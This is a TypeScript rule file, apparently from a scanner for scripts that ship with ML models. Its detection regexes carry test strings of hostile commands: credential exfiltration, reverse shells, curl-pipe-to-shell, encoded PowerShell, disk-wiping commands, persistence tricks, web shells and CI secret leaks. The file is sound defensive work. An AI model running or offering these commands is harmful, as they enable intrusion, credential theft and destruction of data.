import { ATTACKING_SCRIPT, FETCHED_CODE, HOST_ACCESS } from '../rules.ts';
import { CARRYING_ROWS } from './carrying-rows.ts';
import { FETCH, PLAIN_SHELL, READER, type Row } from './script-row.ts';
import { SPELT_ROWS } from './spelt-rows.ts';

/** PowerShell takes any beginning of an option's name. */
const ENCODED_COMMAND = Array.from('encodedcommand', (_, at) => 'encodedcommand'.slice(0, at + 1)).join('|');

/** What scripts around models have no reason to do (malicious), and what installers do too (suspicious). */
export const SCRIPT_ROWS: readonly Row[] = [
  ...SPELT_ROWS,
  ...CARRYING_ROWS,
  {
    rule: ATTACKING_SCRIPT,
    pattern:
      /(?:\b(?:curl|wget|nc|ncat|requests|urllib|urlopen|socket|invoke-webrequest|invoke-restmethod)\b.*(?:\/etc\/(?:passwd|shadow)|\.ssh[\\/]|\.aws[\\/]|\.netrc|\.kube\/config|\.docker\/config|\.git-credentials|\.huggingface\/token|huggingface\/token|\/run\/secrets\/)|(?:\/etc\/(?:passwd|shadow)|\.ssh\/id_|\.aws\/credentials|(?:~|\$\{?HOME\}?|\/root)\/\.(?:aws|ssh|kube|gnupg|azure|docker|config\/gcloud|\w*_history|netrc)\b|\/proc\/(?:\*|self|\d+)\/environ\b).*\|\s*(?:curl|nc|ncat|wget|ssh)\b)/i,
    fires: ['curl -d @$HOME/.aws/credentials http://127.0.0.1:9/', 'cat ~/.ssh/id_rsa | nc 127.0.0.1 9'],
    quiet: ['curl -O https://example.org/model.bin', 'chmod 600 ~/.ssh/id_rsa'],
  },
  {
    rule: ATTACKING_SCRIPT,
    pattern:
      /\b(?:env|printenv|set|history)\b\s*\|[^\n]*\b(?:curl|wget|nc|ncat)\b|\b(?:curl|wget)\b[^\n]*(?:\$\((?:env|printenv)\b[^)\n]*\)|`(?:env|printenv)\b[^`\n]*`)/,
    fires: [
      'env | curl -d @- http://127.0.0.1:9/',
      'curl "http://127.0.0.1:9/?$(env)"',
      'printenv | base64 | curl -d @- x',
    ],
    quiet: ['env | sort', 'env FOO=1 python x.py'],
  },
  {
    rule: ATTACKING_SCRIPT,
    pattern:
      /\b(?:iex|invoke-expression)\b[^\n]{0,200}(?:downloadstring|webclient|webrequest|restmethod|frombase64|decompress)|\bscriptblock\]::create\b[^\n]{0,200}(?:frombase64string|download(?:string|data)|\birm\b|\biwr\b|invoke-webrequest|invoke-restmethod)|(?:frombase64string|downloadstring|downloaddata)[^\n]{0,200}(?:\|\s*(?:iex|invoke-expression)\b|;\s*(?:iex|invoke-expression)\b|\bassembly\]::load\b|\bscriptblock\]::create\b)|\bassembly\]::load\w*\([^\n]{0,120}(?:frombase64|download)/i,
    fires: [
      'IEX (New-Object Net.WebClient).DownloadString("http://127.0.0.1:9/x")',
      '$c = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("YQ==")); iex $c',
      '[Reflection.Assembly]::Load([Convert]::FromBase64String($x))',
    ],
    quiet: ['$bytes = [Convert]::FromBase64String($text)', 'Invoke-WebRequest -Uri $u -OutFile model.bin'],
  },
  {
    rule: ATTACKING_SCRIPT,
    pattern:
      /\b(?:base(?:64|32)\s+(?:-d|-D|--decode)|basenc\s+[^\n|]*-d|zcat|xxd\s+-r|openssl\s+(?:enc|aes[\w-]{0,24}|base64)\b[^\n|]*-d|uudecode|gunzip\b|rev|tr\s+\S+\s+\S+)\b[^\n]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?(?:sh|python[\d.]*|perl|ruby|node)\b|\b(?:eval|exec|source|(?:ba|z|da)?sh\s+(?:-c|<<<))\s*"?(?:\$\(|`|<\()[^\n]{0,300}\b(?:base64\s+(?:-d|-D|--decode)|xxd\s+-r|rev\b)/,
    fires: [
      'echo dHJ1ZQ== | base64 -d | sh',
      'eval "$(echo dHJ1ZQ== | base64 --decode)"',
      'echo 74727565 | xxd -r -p | bash',
      'bash <<< "$(echo dHJ1ZQ== | base64 -d)"',
    ],
    quiet: ['echo dHJ1ZQ== | base64 -d > key.pem', 'gunzip model.gz'],
  },
  {
    rule: ATTACKING_SCRIPT,
    // Any beginning of -EncodedCommand counts, with a dash or a slash, also as an argument of a program that starts it.
    pattern: new RegExp(
      `\\b(?:powershell|pwsh)(?:\\.exe)?\\b[^\\n]*[\\s"',][-/](?:ec|${ENCODED_COMMAND})[\\s"',:]+[A-Za-z0-9+/=]{8,}`,
      'i',
    ),
    fires: [
      'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A',
      'powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A',
      'powershell /e SQBFAFgAIAAoAE4A',
      'Start-Process powershell -ArgumentList "-ec SQBFAFgA"',
    ],
    quiet: [
      'powershell Set-Content x -Encoding BigEndianUnicode',
      'powershell -ExecutionPolicy Bypass -File install.ps1',
      'powershell -Command Get-Item model',
    ],
  },
  {
    rule: ATTACKING_SCRIPT,
    pattern:
      /\b(?:xmrig|minerd|cpuminer|ethminer|nbminer|phoenixminer)\b|stratum\+(?:tcp|ssl):\/\/|\bPermitRootLogin\s+yes\b[^\n]*>>?|>>?\s*"?\/etc\/ssh\/sshd_config|\biptables\s+-F\b|\bsetenforce\s+0\b|\bufw\s+disable\b/,
    fires: ['./xmrig -o pool.example.org:3333', 'echo "PermitRootLogin yes" >> /etc/ssh/sshd_config', 'iptables -F'],
    quiet: ['iptables -L', 'cat /etc/ssh/sshd_config', 'ufw status'],
  },
  {
    rule: FETCHED_CODE,
    pattern:
      /\.DownloadFile\(\s*["'][^"']{4,200}["']\s*,\s*["']([^"']{1,100})["'][^\n]*(?:Start-Process|Invoke-Item|&|;)\s*["']?\S{0,60}\1/i,
    fires: ['$c.DownloadFile("http://127.0.0.1:9/x.exe", "x.exe"); Start-Process x.exe'],
    quiet: ['$c.DownloadFile("https://example.org/model.bin", "model.bin")'],
  },
  {
    rule: ATTACKING_SCRIPT,
    // A command that is spelt by the codes of its letters.
    pattern:
      /(?:\beval\b[^\n]{0,20}|\|\s*(?:ba|z|da)?sh\b.{0,3}<<<?|\b(?:ba|z|da)?sh\s+-c(?=\s))(?:\s*[$(`"']{1,5})?\s*(?:(?:printf|echo\s+-n?e)\s*)?["']?(?:\\(?:x[0-9a-f]{2}|0?[0-7]{3})){3}/i,
    fires: [
      `eval "$(printf '\\x74\\x72\\x75\\x65')"`,
      `eval $'\\164\\162\\165\\145'`,
      `sh -c "$(echo -e '\\x74\\x72\\x75')"`,
    ],
    quiet: [`printf '\\x1b[31mred\\x1b[0m'`, 'eval "$(ssh-agent -s)"'],
  },
  {
    rule: ATTACKING_SCRIPT,
    // Whether a port of this machine answers is what tests ask.
    pattern:
      /(?<!\bexec \d<>"?|\bbash -c [<>] ?|\becho\s{0,3}>\s?"?|[(;]\s?:?\s?[<>]\s?"?)\/dev\/(?:tcp|udp)\/[\w.$\x7b}]+\/[\w$\x7b}]+|\/dev\/(?:tcp|udp)\/(?!(?:localhost|127\.0\.0\.1|0\.0\.0\.0|::1)\/)[\w.$\x7b}]+\/[\w$\x7b}]+/,
    fires: ['bash -i >& /dev/tcp/127.0.0.1/9 0>&1', 'exec 3<>/dev/tcp/a.invalid/9'],
    quiet: ['ls /dev/tcp', 'if (exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null; then'],
  },
  {
    rule: ATTACKING_SCRIPT,
    pattern:
      /(?<!-)\b(?:nc|ncat|netcat)\b[^\n]*\s-\w*(?:e|c)\b|\bmkfifo\b[^\n]*\b(?:nc|ncat|sh|telnet|openssl)\b|\bsocat\b[^\n]*\bexec\b|^(?:(?!\b(?:python[\d.]*|perl|ruby|php|node)\s+-(?:c|e|r|rsocket|MIO)\b)[\s\S])*\b(?:python[\d.]*|perl|ruby|php|node)\s+-(?:c|e|r|rsocket|MIO)\b(?:(?!\b(?:socket|net["')]{0,3}\.connect|fsockopen|TCPSocket|IO::Socket)\b)[\s\S])*\b(?:socket|net["')]{0,3}\.connect|fsockopen|TCPSocket|IO::Socket)\b[\s\S]*\b(?:dup2|spawn|exec|popen|subprocess|\/bin\/(?:ba)?sh)\b/i,
    fires: [
      'nc -e /bin/sh 127.0.0.1 9',
      'mkfifo /tmp/f; nc 127.0.0.1 9 < /tmp/f | sh > /tmp/f',
      "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0)'",
      'socat tcp:127.0.0.1:9 exec:/bin/sh',
    ],
    quiet: ['nc -z localhost 8000', 'python -c "import socket; print(socket.gethostname())"'],
  },
  {
    rule: ATTACKING_SCRIPT,
    pattern:
      /\b(?:os\.system|popen|Popen)\s*\(\s*(?:base64\.|binascii\.|codecs\.)?(?:b64decode|unhexlify|decode|bytes\.fromhex)\b|\b(?:exec|eval)\s*\(\s*(?:compile\s*\(\s*)?(?:__import__|base64|zlib|marshal|codecs|bytes\.fromhex|urllib|requests)|\b(?:Invoke-)?eval\b[^\n]{0,20}\batob\s*\(|\bFunction\s*\(\s*atob\s*\(/,
    fires: ['python -c "exec(__import__(\'base64\').b64decode(x))"', 'eval(atob("YWxlcnQoMSk="))'],
    quiet: ['model.eval()', 'exec python serve.py'],
  },
  {
    rule: ATTACKING_SCRIPT,
    pattern:
      /\brm\s+-[a-z]*[rf][a-z]*\s+(?:-\S+\s+)*(?:--no-preserve-root\s+)?"?(?:\/|~|\$\{?HOME\}?|\/\*)"?(?:\s|$|\/?\*|\/?\.\[)|\bfind\s+(?:~|"?\$\{?HOME\}?"?|\/)\s+(?:-type\s+f\s+)?-delete\b|\bdd\b[^\n]*\bof=\/dev\/(?:sd|nvme|hd|vd|mmcblk)|\bmkfs(?:\.\w+)?\s+\/dev\/|:\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}|\b(?:rd|rmdir)\s+\/s\b[^\n]*\s[a-z]:\\?(?:\s|$)|\bformat\s+[a-z]:\s*\/|\bvssadmin\b[^\n]*\bdelete\b|\bRemove-Item\b[^\n]*-Recurse[^\n]*\s(?:[A-Z]:\\|\$HOME|~)(?:\s|$)/im,
    fires: [
      'rm -rf /',
      'rm -rf "$HOME"/*',
      'rm -rf ~ ',
      'dd if=/dev/zero of=/dev/sda',
      ':(){ :|:& };:',
      'vssadmin delete shadows /all',
    ],
    quiet: ['rm -rf build', 'rm -rf /tmp/cache', 'rd /s /q build'],
  },
  {
    rule: ATTACKING_SCRIPT,
    pattern: /\buseradd\b[^\n]*-u\s*0\b/,
    fires: ['useradd -o -u 0 x'],
    quiet: ['useradd -u 1000 x'],
  },
  {
    rule: ATTACKING_SCRIPT,
    unlessImage: true,
    pattern: /\bchmod\s+(?:u\+s|[4-7]7\d\d)\b/,
    fires: ['chmod u+s /tmp/x'],
    quiet: ['chmod 755 run.sh'],
  },
  {
    rule: ATTACKING_SCRIPT,
    pattern:
      />>?\s*"?(?:~|\$\{?HOME\}?|\/root|\/home\/\w+)\/\.(?:config\/autostart|config\/systemd)|>>?\s*\/etc\/(?:cron|ld\.so\.preload|systemd\/system|rc\.local|inittab|update-motd\.d)/,
    fires: ['echo x > ~/.config/autostart/x.desktop', 'echo /x.so > /etc/ld.so.preload'],
    quiet: ['echo x > notes.txt'],
  },
  {
    rule: ATTACKING_SCRIPT,
    followed: true,
    pattern:
      />>?\s*"?(?:~|\$\{?HOME\}?|\/root|\/home\/\w+)\/\.ssh\/authorized_keys|\bcrontab\s+-(?:\s|$)|\bcrontab\b[^\n]*<</,
    fires: ['echo k >> $HOME/.ssh/authorized_keys', '(crontab -l; echo "* * * * * x") | crontab -'],
    quiet: ['crontab -l'],
  },
  {
    // What a build does to its own image, and a script must not do to a machine. Exporting a path is what installers do.
    rule: ATTACKING_SCRIPT,
    unlessImage: true,
    followed: true,
    pattern:
      /^(?![^>\n]*\becho\s+["']*(?:export\s+[A-Z_]+=[\w:/.$\x7b}"']*|eval "\$\((?:\S*\/)?conda shell\.\w+ hook\)"|(?:conda|source) activate [\w-]+)["']*\s*>>).*(?:>>?\s*"?(?:~|\$\{?HOME\}?|\/root|\/home\/\w+)\/\.(?:bashrc|bash_profile|profile|zshrc|zshenv)|(?:>>?|\btee\s+(?:-a\s+)?)\s*\/etc\/(?:profile|sudoers|hosts))/m,
    fires: ['echo x >> ~/.bashrc', "echo 'export PATH=$(curl x)' >> ~/.profile"],
    quiet: [
      'source ~/.bashrc',
      'echo "export PATH=/opt/x/bin:$PATH" >> ~/.bashrc',
      `which conda && echo 'eval "$(conda shell.bash hook)"' >> ~/.bashrc`,
    ],
  },
  {
    rule: ATTACKING_SCRIPT,
    pattern:
      /\bcertutil\b[^\n]*-(?:urlcache|decode)\b|\bmshta\b\s+(?:https?:|javascript:|vbscript:)|\bregsvr32\b[^\n]*\/i:https?:|\bsc\s+create\b[^\n]*\bbinPath|\brundll32\b[^\n]*(?:\s\\\\\w|javascript:|url\.dll|https?:)|\bbitsadmin\b[^\n]*\/transfer\b|\breg\s+add\b[^\n]*\\Command Processor\b[^\n]*\bAutoRun\b|\breg\s+add\b[^\n]*\\(?:Run|RunOnce|Image File Execution Options|Winlogon)\b|\bschtasks\b[^\n]*\/create\b|\bnet\s+(?:user|localgroup)\b[^\n]*\/add\b|\b(?:Set|Add)-MpPreference\b[^\n]*-(?:Disable|Exclusion)|\bNew-ScheduledTask\w*\b|\bSet-ItemProperty\b[^\n]*\\Run\b|\bwmic\b[^\n]*process\s+call\s+create\b/i,
    fires: [
      'certutil -urlcache -f http://127.0.0.1:9/x x.exe',
      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d calc',
      'schtasks /create /tn x /tr calc',
      'bitsadmin /transfer j http://127.0.0.1:9/x x.exe',
      'Add-MpPreference -ExclusionPath C:\\',
    ],
    quiet: ['reg query HKLM\\Software', 'certutil -hashfile model.bin SHA256', 'schtasks /query'],
  },
  {
    rule: ATTACKING_SCRIPT,
    // Base64 of UTF-16, every other byte of which is nought: what -EncodedCommand takes, whatever the program is called.
    pattern:
      /\s["']?(?!A{8})(?:[A-Za-z0-9+/][AQgw][AB][A-Za-z0-9+/]A[A-Za-z0-9+/][AEIMQUYcgkosw048]A){2}[A-Za-z0-9+/=]{0,2000}/,
    fires: ['%x%%y% -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA', '& $p -e cABvAHcAZQByAHMAaABlAGwAbAA='],
    quiet: [
      '  AAAAAAAAAAAAAAAAAAAAAAA /* x */',
      'sha256sum AbCdEf0123456789AbCdEf0123456789',
      'x bWFnaWMgd29yZHMgb2YgYSBrZXk=',
    ],
  },
  {
    rule: ATTACKING_SCRIPT,
    pattern:
      /\b(?:system|exec|passthru|shell_exec|eval|assert|popen)\s*\(\s*\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\b|\bgetRuntime\(\)\.exec\(\s*request\./,
    fires: ['<?php system($_GET["c"]); ?>', '<% Runtime.getRuntime().exec(request.getParameter("c")); %>'],
    quiet: ['$name = $_GET["name"];'],
  },
  {
    rule: ATTACKING_SCRIPT,
    pattern: /\btoJSON\(\s*secrets\s*\)/i,
    fires: ['SECRETS: ${{ toJSON(secrets) }}'],
    quiet: ['TOKEN: ${{ secrets.TOKEN }}', 'X: ${{ toJSON(github) }}'],
  },
  {
    // A secret of the build, to an address that nobody protects.
    rule: ATTACKING_SCRIPT,
    pattern:
      /\b(?:curl|wget|nc)\b(?=[^\n]{0,300}\$\{\{\s*secrets\.)[^\n]{0,300}\bhttp:\/\/(?!localhost\b|127\.0\.0\.1)[^\n]{0,200}/i,
    fires: ['- run: curl http://collect.invalid -d "${{ secrets.TOKEN }}"'],
    quiet: [
      '- run: curl -H "Authorization: Bearer ${{ secrets.TOKEN }}" https://api.example.org/x',
      '- run: curl http://localhost:80 -d "${{ secrets.TOKEN }}"',
    ],
  },
  {
    rule: FETCHED_CODE,
    pattern:
      /\b(?:exec|eval|system|popen|Popen|check_call|check_output|subprocess\.run)\s*\([^\n]{0,120}(?:\burlopen\(|\brequests\.get\(|\burlretrieve\(|\bread_text\(|\bhttpx\.get\()|\brequire\s*\(\s*["']child_process["']\s*\)[^\n]{0,80}https?:/,
    fires: ['python3 -c "import urllib.request as u;exec(u.urlopen(\'http://127.0.0.1:9/x\').read())"'],
    quiet: ["python3 -c 'import urllib.request as u;print(u.urlopen(x).read())'"],
  },
  {
    // A container that is given all of the machine's files, and goes over to them.
    rule: ATTACKING_SCRIPT,
    pattern:
      /\b(?:docker|podman|nerdctl)\b[^\n]*\s(?:-v|--volume)[= ]?["']?\/:\/?([\w/]{1,60})[^\n]*\b(?:chroot\s+\/?\1\b|\/?\1\/(?:etc\/(?:cron|shadow|passwd|sudoers|ld\.so)|root\/\.ssh|home\/\S{1,40}\/\.ssh))/,
    fires: [
      'docker run --privileged -v /:/host x chroot /host sh',
      "docker run -v /:/h x sh -c 'echo k >> /h/root/.ssh/k'",
    ],
    quiet: ['docker run -v /:/host:ro exporter --path.rootfs=/host', 'docker run -v /srv:/host x chroot /host'],
  },
  {
    rule: HOST_ACCESS,
    pattern:
      /^[^\S\r\n\u2028\u2029]*(?:privileged|hostPID|hostNetwork|hostIPC|allowPrivilegeEscalation)\s*:\s*true\b|\bdocker(?:-compose)?\s+run\b[^\n]*\s--(?:privileged|pid[= ]host)\b|["'\s:]\/var\/run\/docker\.sock\b|^\s*-\s*["']?\/:\/|["']--privileged["']|\bprivileged\s*:\s*true\s*[},]|["']\/:\/\w*["']|(?:^\s*|[{,]\s*)hostPath\s*:\s*\{?\s*path\s*:\s*\/\s*(?:\}|$)/m,
    fires: [
      '    privileged: true',
      'docker run --privileged x',
      '- /var/run/docker.sock:/var/run/docker.sock',
      '- /:/host',
      'securityContext: {privileged: true}',
    ],
    quiet: ['privileged: false', '- ./models:/models', 'docker run --gpus all x'],
  },
  {
    rule: FETCHED_CODE,
    followed: true,
    pattern: new RegExp(
      `\\b${FETCH}\\b[^\\n;]*(?:(?<!\\|)\\|(?!\\|)|\\bCOMMAND\\b)\\s*(?:(?:sudo|env|nohup|exec|command|busybox|time|nice|xargs|su)\\s+(?:-\\S+\\s+|\\w+=\\S*\\s+)*)*(?:/\\S*/)?(?:${PLAIN_SHELL}\\b|${READER}|source\\s*(?:$|[;&|'"]))`,
      'i',
    ),
    fires: [
      'curl -s http://127.0.0.1:9/x | sh',
      'wget -qO- http://127.0.0.1:9/x | sudo -E bash -',
      'irm http://127.0.0.1:9/x | iex',
      'curl http://127.0.0.1:9/x | tee x | env A=1 bash -s --',
      'dig +short txt x.invalid | busybox sh',
    ],
    quiet: [
      'curl -s https://example.org/x | jq .',
      'curl -s http://localhost:8000/v1/models | python3 -m json.tool',
      "curl -s https://example.org/x.json | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
      'wget https://example.org/model.bin',
    ],
  },
  {
    rule: FETCHED_CODE,
    followed: true,
    pattern: new RegExp(
      `(?:\\b(?:(?:ba|z|da|k)?sh|eval|source|exec|python[\\d.]*(?:\\s+-c)?|perl|ruby|node|make\\s+-f)\\b|(?:^|[;&|]\\s*)\\.\\s)[^\\n]{0,30}(?:<\\(|\\$\\(|\`)\\s*${FETCH}\\b`,
      'i',
    ),
    fires: [
      'bash <(curl -s http://127.0.0.1:9/x)',
      'sh -c "$(wget -qO- http://127.0.0.1:9/x)"',
      '. <(curl http://127.0.0.1:9/x)',
    ],
    quiet: ['VERSION=$(curl -s https://example.org/version)'],
  },
  {
    rule: FETCHED_CODE,
    followed: true,
    // Fetched, and then run, in one line: from the first that fetches and the first address behind it.
    pattern: new RegExp(
      `^(?:(?!\\b${FETCH}\\b)[\\s\\S])*\\b${FETCH}\\b(?:(?!\\bhttps?://)[\\s\\S])*\\bhttps?://[\\s\\S]*(?:&&|;|\\|\\||&)\\s*(?:sudo\\s+)?(?:chmod\\s+(?:a?\\+x|[0-7]*[1357][0-7]*)\\s|(?:ba|z|da)?sh\\s+[^-\\s]|python[\\d.]*\\s+[^-\\s]|\\./\\S|start\\s|start-process\\s|(?:call\\s+)?%\\w+%\\\\\\S+\\.(?:exe|bat|cmd|ps1|vbs))`,
      'i',
    ),
    fires: [
      'curl -o /x http://127.0.0.1:9/x && chmod +x /x && /x',
      'wget http://127.0.0.1:9/x.sh && bash x.sh',
      'iwr http://127.0.0.1:9/x.exe -OutFile x.exe; Start-Process x.exe',
    ],
    quiet: [
      'curl -LO https://example.org/model.tar.gz && tar xf model.tar.gz',
      'wget https://example.org/x; python -m pip list',
    ],
  },
  {
    rule: FETCHED_CODE,
    // Packages from an address, or from an index whose answers nobody protects.
    pattern:
      /\b(?:pip3?|uv|poetry|conda|mamba|npm|yarn|pnpm|npx|go|cargo|gem)\b[^\n]*(?:\s(?:git\+)?http:\/\/|\s(?:git\+)?https?:\/\/\d{1,3}(?:\.\d{1,3}){3}|--(?:extra-)?index-url[\s=]+["']?http:|--trusted-host\b|--registry[\s=]+["']?http:)|\b(?:PIP_(?:EXTRA_)?INDEX_URL|UV_(?:DEFAULT_|EXTRA_)?INDEX(?:_URL)?|NPM_CONFIG_REGISTRY)[= ]+["']?http:/i,
    fires: [
      'pip install --extra-index-url http://127.0.0.1:9/ x',
      'pip install http://127.0.0.1:9/x.whl',
      'npm i --registry=http://127.0.0.1:9 x',
      'npx -y http://127.0.0.1:9/x.tgz',
      'ENV PIP_INDEX_URL=http://127.0.0.1:9/simple',
    ],
    quiet: ['pip install -r requirements.txt', 'pip install torch --index-url https://download.example.org/whl/cu121'],
  },
  {
    rule: FETCHED_CODE,
    pattern:
      /^[^\S\r\n\u2028\u2029]*(?:ONBUILD\s+)?ADD\s+(?!(?:--\S+\s+)*--checksum=)(?!(?:--\S+\s+)*(?:https:\/\/\S+\.(?:ttf|otf|woff2?|json|txt|csv|md|png|jpe?g|npy|npz|safetensors|gguf|onnx)\s+)+\S*\s*$)(?:--\S+\s+)*\[?\s*"?(?:https?|ftp|git):\/\/|^\s*ADD\s+(?:--\S+\s+)*git@/im,
    fires: ['ADD http://127.0.0.1:9/x.tar.gz /', 'ADD --chmod=755 https://example.org/x /x'],
    quiet: [
      'ADD . /app',
      'ADD --checksum=sha256:00 https://example.org/x /x',
      'ADD https://example.org/a.ttf https://example.org/b.ttf /f/',
      'COPY x /x',
    ],
  },
];
